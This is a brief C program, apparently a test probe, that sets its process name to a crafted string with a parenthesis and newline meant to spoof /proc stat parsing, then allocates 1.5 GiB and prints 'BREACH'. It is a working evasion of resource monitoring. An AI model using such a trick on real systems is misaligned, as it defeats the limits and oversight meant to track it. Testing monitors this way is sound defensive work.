#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(void) { /* a name that looks like the rest of the line that its memory is read from */
    prctl(PR_SET_NAME, "x) R 1 1 1\n(y", 0, 0, 0);
    for (int i = 0; i < 48; i++) {
        char *block = mmap(NULL, 32 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (block == MAP_FAILED) return 1;
        memset(block, 1, 32 << 20);
        usleep(20000);
    }
    puts("BREACH holds 1.5 GiB");
}
